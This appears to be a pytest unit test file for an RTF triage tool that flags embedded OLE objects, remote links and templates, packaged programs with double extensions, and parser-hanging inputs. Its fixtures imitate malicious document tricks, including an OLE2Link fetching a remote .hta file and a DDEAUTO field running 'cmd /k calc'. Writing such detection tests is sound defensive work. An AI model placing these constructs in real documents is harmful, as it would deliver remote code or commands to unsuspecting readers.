import pytest

from tests.unit.triage.documents.compound_files import native
from tests.unit.triage.documents.rich_texts import ole1, with_object
from tests.unit.triage.documents.samples import facts, told
from vedette.triage.fact import Act, When
from vedette.triage.kinds import Kind


def test_an_ordinary_document_says_nothing() -> None:
    text = (
        "{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}"
        "{\\*\\template C:\\\\letter.dot}\\f0 Hello {\\field{\\*\\fldinst HYPERLINK x}}}"
    )
    assert facts(text, Kind.RTF) == []


@pytest.mark.parametrize("noise", ["", "\n", "{\\*\\abc 00}", "\\par ", " \t"])
def test_an_equation_is_found_however_its_digits_are_broken_up(noise: str) -> None:
    found = facts(with_object(ole1("Equation.3", b"x" * 200), noise=noise), Kind.RTF)
    assert (Act.EMBEDS, "Equation.3") in told(found)
    assert (Act.OBFUSCATED in [one.act for one in found]) is ("\\" in noise)


@pytest.mark.parametrize(("marks", "when"), [("\\objupdate", When.OPEN), ("", When.CALL)])
def test_a_link_is_loaded_at_once_only_where_it_says_so(marks: str, when: When) -> None:
    data = b"\xd0\xcf\x11\xe0" + "http://198.51.100.7/a.hta".encode("utf-16-le") + b"\0\0"
    (one,) = facts(with_object(ole1("OLE2Link", data), marks=marks), Kind.RTF)
    assert (one.act, one.target, one.when) == (Act.OPENS_EXTERNAL, "http://198.51.100.7/a.hta", when)


@pytest.mark.parametrize(
    ("name", "acts"), [("a.vbs", [Act.EMBEDS]), ("a.txt", []), ("a.doc.scr", [Act.EMBEDS, Act.DIFFERS])]
)
def test_packed_programs_are_told_and_texts_are_not(name: str, acts: list[Act]) -> None:
    data = with_object(ole1("Package", native(name, b"text")[4:]))
    assert [one.act for one in facts(data, Kind.RTF)] == acts


def test_a_template_from_elsewhere_and_a_field_that_starts_a_program_are_told() -> None:
    text = "{\\rtf1{\\*\\template http://a.invalid/t.dotm}{\\field{\\*\\fldinst {DDEAUTO }{cmd /k calc}}}}"
    assert told(facts(text, Kind.RTF)) == [
        (Act.OPENS_EXTERNAL, "http://a.invalid/t.dotm"),
        (Act.RUNS_COMMAND, "cmd /k calc"),
    ]


def test_a_header_only_word_takes_is_a_difference() -> None:
    assert [one.act for one in facts("{\\rt xyz hello}", Kind.RTF)] == [Act.DIFFERS]


@pytest.mark.parametrize(
    "text",
    [
        "{" * 50000,
        "{\\rtf1" + "{\\*\\objdata " * 5000,
        "{\\rtf1\\bin9999999999 x",
        "{\\rtf1{\\*\\objdata \\bin-5 zz",
    ],
)
def test_what_is_made_to_hang_ends(text: str) -> None:
    facts(text, Kind.RTF)
